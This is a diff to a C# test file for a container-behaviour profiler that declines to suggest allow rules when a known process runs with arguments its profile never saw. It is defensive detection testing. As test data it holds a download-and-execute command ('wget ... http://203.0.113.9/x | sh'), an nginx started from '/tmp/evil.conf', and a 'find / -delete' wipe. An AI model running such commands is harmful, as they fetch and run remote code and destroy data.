@@ -11,7 +11,7 @@ public class SuggestionMatcherTests
 {
     private static readonly ProfileKey Key = new("registry.local/team/web app", "1.0");
     private static readonly ProcessRef Nginx = new("/usr/sbin/nginx", ["nginx", "-g", "daemon off;"]);
-    private static readonly ProcessRef ShellC = new("/bin/sh", ["sh", "-c", "rotate"]);
+    private static readonly ProcessRef ShellC = new("/bin/sh", ["sh", "-c", "rotate logs"]);
 
     /// <summary>
     /// <paramref name="snapshots"/> containers: each runs nginx reading its config and, in the first
@@ -64,9 +64,12 @@ public class SuggestionMatcherTests
         Assert.Null(enriched.NoSuggestionReason);
         Assert.Equal("rule.shell-in-container", suggestion.RuleId);
         Assert.Equal(node, suggestion.NodeId);
-        Assert.Equal($"container.image.name == \"registry.local/team/web app\" && behaviour.node_id == \"{node:x16}\"", suggestion.Expression);
+        Assert.Equal($"container.image.name == \"registry.local/team/web app\" && behaviour.node_id == \"{node:x16}\" " +
+                     "&& process.ancestry.signatures == [\"-g 'daemon off;'\", \"-c 'rotate logs'\"]", suggestion.Expression);
         Assert.Equal("/usr/sbin/nginx › /bin/sh -c *", suggestion.Description);
-        Assert.Equal(new SuggestionEvidence(0.9, 0.9, 10, 4, 6), suggestion.Evidence);
+        Assert.Equal(["-g 'daemon off;'", "-c 'rotate logs'"], suggestion.Signatures);
+        Assert.Equal(new SuggestionEvidence(0.9, 0.9, 10, 4, 6, 0.9), suggestion.Evidence);
+        Assert.Equal(0.8, enriched.Profile!.Threshold);
 
         var context = Assert.IsType<ProfileContext>(enriched.Profile);
         Assert.True(context.BehaviourInProfile);
@@ -175,6 +178,70 @@ public class SuggestionMatcherTests
         var profile = Profile(2, 2);
         Assert.Same(ProfileIndex.For(profile), ProfileIndex.For(profile));
         Assert.Equal(profile.Nodes.Count, ProfileIndex.For(profile).Count);
+    }
+
+    [Fact]
+    public void The_same_program_with_arguments_the_profile_never_saw_gets_no_suggestion_and_the_reason_names_them()
+    {
+        var profile = Profile(10, 10, new ProfilePolicy { StableSnapshotCount = 10 });
+        var injected = new Behaviour { Kind = NodeKind.Process, Ancestry = [Nginx, new ProcessRef("/bin/sh", ["sh", "-c", "wget -q -O- http://203.0.113.9/x | sh"])] };
+
+        var enriched = new SuggestionMatcher().Enrich(Signal(injected), profile, 1);
+
+        Assert.True(enriched.Profile!.BehaviourInProfile, "the node (nginx › sh -c *) is known and common");
+        Assert.Null(enriched.Suggestion);
+        Assert.Equal("`sh` ran with arguments the profile never saw: `-c 'wget -q -O- http://public/x | sh'` " +
+                     "(the profile knows 1 argument signature(s) for /bin/sh -c *)", enriched.NoSuggestionReason);
+
+        // An ancestor's arguments count too: the same shell under an nginx started differently is not covered.
+        var otherParent = ShellBehaviour with { Ancestry = [new ProcessRef("/usr/sbin/nginx", ["nginx", "-c", "/tmp/evil.conf"]), ShellC] };
+        Assert.StartsWith("`nginx` ran with arguments the profile never saw", new SuggestionMatcher().Enrich(Signal(otherParent), profile, 1).NoSuggestionReason,
+            StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void A_signature_seen_too_rarely_or_a_node_whose_signatures_overflowed_gets_no_suggestion()
+    {
+        var aggregate = new ProfileAggregate(Key, new ProfilePolicy { StableSnapshotCount = 10, MaxSignaturesPerNode = 3 });
+        for (var i = 0; i < 10; i++)
+        {
+            var builder = new SnapshotBuilder(new ContainerRef($"c{i}", Key.ImageName, Key.ImageTag), "h", 0, 100);
+            builder.Add(Exec(1, 1, "/usr/sbin/nginx", "nginx", "-g", "daemon off;"));
+            builder.Add(Fork(2, 1, 2));
+            // Nine snapshots run the usual rotation; one runs another script.
+            builder.Add(Exec(3, 2, "/bin/sh", "sh", "-c", i == 0 ? "rotate other logs" : "rotate logs"));
+            builder.Add(Fork(4, 1, 3));
+            // The cache cleaner runs with a different script every time: more signatures than the node keeps.
+            builder.Add(Exec(5, 3, "/usr/bin/find", "find", $"/var/cache/c{i}", "-delete"));
+            aggregate.Merge(builder.Build(), 1);
+        }
+        var profile = aggregate.ToProfile();
+        var matcher = new SuggestionMatcher();
+
+        var rare = ShellBehaviour with { Ancestry = [Nginx, new ProcessRef("/bin/sh", ["sh", "-c", "rotate other logs"])] };
+        Assert.Equal("`sh` ran with arguments seen in only 1 of 10 snapshots (commonality 0.1 below the threshold 0.8): `-c 'rotate other logs'`",
+            matcher.Enrich(Signal(rare), profile, 1).NoSuggestionReason);
+        Assert.NotNull(matcher.Enrich(Signal(ShellBehaviour), profile, 1).Suggestion);
+
+        var find = profile.Nodes.Single(n => n.Key == "/usr/bin/find");
+        Assert.True(find.SignaturesOverflowed);
+        Assert.Equal(3, find.Signatures.Count);
+        var unseen = new Behaviour { Kind = NodeKind.Process, Ancestry = [Nginx, new ProcessRef("/usr/bin/find", ["find", "/", "-delete"])] };
+        Assert.Contains("its node saw more argument signatures than the profile keeps", matcher.Enrich(Signal(unseen), profile, 1).NoSuggestionReason,
+            StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void A_long_running_process_has_its_signature_in_every_snapshot_it_acts_in()
+    {
+        var table = new ProcessTable();
+        var first = new SnapshotBuilder(new ContainerRef("c", Key.ImageName, Key.ImageTag), "h", 0, 100, processes: table);
+        first.Add(Exec(1, 1, "/usr/sbin/nginx", "nginx", "-g", "daemon off;"));
+        var second = new SnapshotBuilder(new ContainerRef("c", Key.ImageName, Key.ImageTag), "h", 100, 200, processes: table);
+        second.Add(Open(150, 1, "/etc/nginx/nginx.conf"));
+
+        var nginx = Assert.Single(second.Build().Nodes, n => n.Kind == NodeKind.Process);
+        Assert.Equal(["-g 'daemon off;'"], nginx.Signatures);
     }
 
     [Fact]
